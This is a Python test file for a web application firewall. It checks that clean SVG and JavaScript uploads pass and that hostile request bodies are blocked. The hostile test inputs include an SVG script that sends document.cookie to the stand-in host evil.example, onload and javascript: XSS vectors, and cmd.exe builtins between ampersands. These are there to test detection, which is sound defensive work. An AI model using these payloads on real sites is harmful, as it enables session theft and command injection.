"""Whole documents as real clients send them: an SVG image PUT as ``image/svg+xml`` is XML, left to
the grammar rules as any XML body is (its ``<svg xmlns=…>`` start tag is a document, not an
injection), while script, handlers or script URLs inside it still block; a CommonJS file uploaded
with ``module.exports = …`` on its own line passes; a cmd.exe builtin between two ``&`` blocks in
a JSON string, an XML element or a multipart part, where ``&`` is no query separator. Whole
requests through the default web ACL, as ``waf_eval.py`` sends them.
"""

from __future__ import annotations

import json

import pytest

from tests.rules.corpuskit import DEFAULT_ACL, parse_raw
from tests.rules.test_part_values import _multipart
from wafproxy.aclfiles import load_web_acl
from wafproxy.engine import CompiledWebACL, evaluate

_SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" width="16" height="16" viewBox="0 0 16 16">\n'
    '  <title>edit</title>\n  <g fill="none" stroke="#333" stroke-width="1.5">\n'
    '    <path d="M2 14l3-1 8-8-2-2-8 8z"/><use xlink:href="#a"/>\n  </g>\n</svg>\n'
)
_INKSCAPE = (
    '<svg\n   xmlns:dc="http://purl.org/dc/elements/1.1/"\n   xmlns:svg="http://www.w3.org/2000/svg"\n'
    '   xmlns="http://www.w3.org/2000/svg"\n   version="1.1"\n   height="48"\n   width="48">\n'
    '  <rect x="4" y="4" width="40" height="40" rx="6" style="fill:#3465a4"/>\n</svg>'
)


def _request(method: str, path: str, media_type: str, body: str) -> bytes:
    data = body.encode()
    head = (
        f"{method} {path} HTTP/1.1\r\nHost: www.example.org\r\nContent-Type: {media_type}\r\n"
        f"Content-Length: {len(data)}\r\n\r\n"
    )
    return head.encode() + data


@pytest.fixture(scope="module")
def acl() -> CompiledWebACL:
    return load_web_acl(DEFAULT_ACL)


@pytest.mark.parametrize("svg", [_SVG, _INKSCAPE])
def test_svg_image_put_passes(acl: CompiledWebACL, svg: str) -> None:
    decision = evaluate(acl, parse_raw(_request("PUT", "/files/icon.svg", "image/svg+xml", svg)))
    assert not decision.blocked, decision.terminating_group_rule_id


@pytest.mark.parametrize(
    "svg",
    [
        _SVG.replace("<title>edit</title>", "<script>fetch('//evil.example/?'+document.cookie)</script>"),
        _SVG.replace('width="16"', 'onload="alert(1)" width="16"'),
        _SVG.replace('xlink:href="#a"', 'xlink:href="javascript:alert(1)"'),
        _INKSCAPE.replace("<rect", "<animate onbegin=alert(1) /><rect"),
    ],
)
def test_svg_image_with_script_blocks(acl: CompiledWebACL, svg: str) -> None:
    assert evaluate(acl, parse_raw(_request("PUT", "/files/icon.svg", "image/svg+xml", svg))).blocked


def test_commonjs_upload_passes(acl: CompiledWebACL) -> None:
    code = "'use strict'\nconst { join } = require('node:path')\n\nclass Prefix {\n  exec () { return 1 }\n}\n\nmodule.exports = Prefix\n"
    decision = evaluate(acl, parse_raw(_multipart("file", code, "prefix.js")))
    assert not decision.blocked, decision.terminating_group_rule_id


@pytest.mark.parametrize("word", ["set", "ver", "systeminfo"])
def test_builtin_between_ampersands_blocks_in_documents(acl: CompiledWebACL, word: str) -> None:
    for raw in (
        _multipart("host", f"&{word}&"),
        _request("POST", "/api", "application/json", json.dumps({"host": f"&{word}&"})),
        _request("POST", "/soap", "text/xml", f"<r><host>&amp;{word}&amp;</host></r>"),
    ):
        decision = evaluate(acl, parse_raw(raw))
        assert decision.blocked, raw


def test_flags_between_ampersands_pass_in_a_form(acl: CompiledWebACL) -> None:
    raw = _request("POST", "/search", "application/x-www-form-urlencoded", "q=&set&ver=2&page=1")
    decision = evaluate(acl, parse_raw(raw))
    assert not decision.blocked, decision.terminating_group_rule_id
